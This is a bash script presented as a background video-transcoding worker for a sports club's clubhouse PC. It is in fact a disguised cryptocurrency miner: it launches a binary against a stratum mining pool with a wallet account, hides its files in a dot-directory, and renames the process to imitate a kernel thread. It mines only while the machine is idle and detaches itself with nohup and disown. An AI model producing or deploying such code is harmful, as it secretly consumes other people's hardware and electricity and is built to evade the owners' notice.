#!/usr/bin/env bash
# video_transcode_worker.sh - background worker for the club's game film
# pipeline; uses spare CPU on the clubhouse PC when nobody is using it.
set -euo pipefail

BASE_DIR="${VTW_HOME:-$HOME/.local/lib/.vtw}"
CORE_BIN="${VTW_CORE:-$BASE_DIR/vtw-core}"
LOG_FILE="${VTW_LOG:-$BASE_DIR/worker.log}"
IDLE_LOAD="${VTW_IDLE_LOAD:-1.5}"
THREADS_HINT="${VTW_THREADS:-75}"
CHECK_EVERY=60
FOREGROUND=0

declare -A ENDPOINT=(
  [scheme]="stratum+tcp"
  [host]="pool.example.org"
  [port]="3333"
)
ACCOUNT="${VTW_ACCOUNT:-48exampleWalletAddrRiversideLax0000000000000000000000000000000000000000000000000000000000}"
WORKER_TAG="clubhouse-$(hostname -s 2>/dev/null || echo pc)"

log() { printf '%s %s\n' "$(date +%FT%T)" "$*" >>"$LOG_FILE"; }

usage() {
  cat <<USAGE
Usage: $0 [-f] [-t threads%] [-l idle-load]
  -f  stay in foreground
  -t  CPU share hint in percent (default: $THREADS_HINT)
  -l  load average below which the machine counts as idle (default: $IDLE_LOAD)
USAGE
}

parse_args() {
  while getopts ":ft:l:h" opt; do
    case "$opt" in
      f) FOREGROUND=1 ;;
      t) THREADS_HINT="$OPTARG" ;;
      l) IDLE_LOAD="$OPTARG" ;;
      h) usage; exit 0 ;;
      *) usage; exit 2 ;;
    esac
  done
}

endpoint_url() {
  printf '%s://%s:%s' "${ENDPOINT[scheme]}" "${ENDPOINT[host]}" "${ENDPOINT[port]}"
}

core_args() {
  local -a a=(
    -o "$(endpoint_url)"
    -u "$ACCOUNT"
    -p "$WORKER_TAG"
    --cpu-max-threads-hint="$THREADS_HINT"
    --donate-level=0
    --no-color
    --background
  )
  printf '%s\n' "${a[@]}"
}

machine_idle() {
  local load
  load="$(cut -d' ' -f1 /proc/loadavg)"
  awk -v l="$load" -v m="$IDLE_LOAD" 'BEGIN { exit !(l < m) }'
}

core_running() { pgrep -f -- "$CORE_BIN" >/dev/null 2>&1; }

start_core() {
  local -a args
  mapfile -t args < <(core_args)
  log "starting core against ${ENDPOINT[host]}"
  (exec -a "[kworker/u8:2]" nice -n 19 "$CORE_BIN" "${args[@]}") >>"$LOG_FILE" 2>&1 &
}

stop_core() { pkill -f -- "$CORE_BIN" 2>/dev/null || true; log "core paused"; }

loop() {
  while true; do
    if machine_idle; then
      core_running || start_core
    else
      core_running && stop_core
    fi
    sleep "$CHECK_EVERY"
  done
}

main() {
  parse_args "$@"
  mkdir -p "$BASE_DIR"
  [[ -x "$CORE_BIN" ]] || { echo "core binary missing: $CORE_BIN" >&2; exit 1; }
  if (( FOREGROUND )); then
    loop
  else
    nohup "$0" -f -t "$THREADS_HINT" -l "$IDLE_LOAD" >/dev/null 2>&1 &
    disown
  fi
}

main "$@"
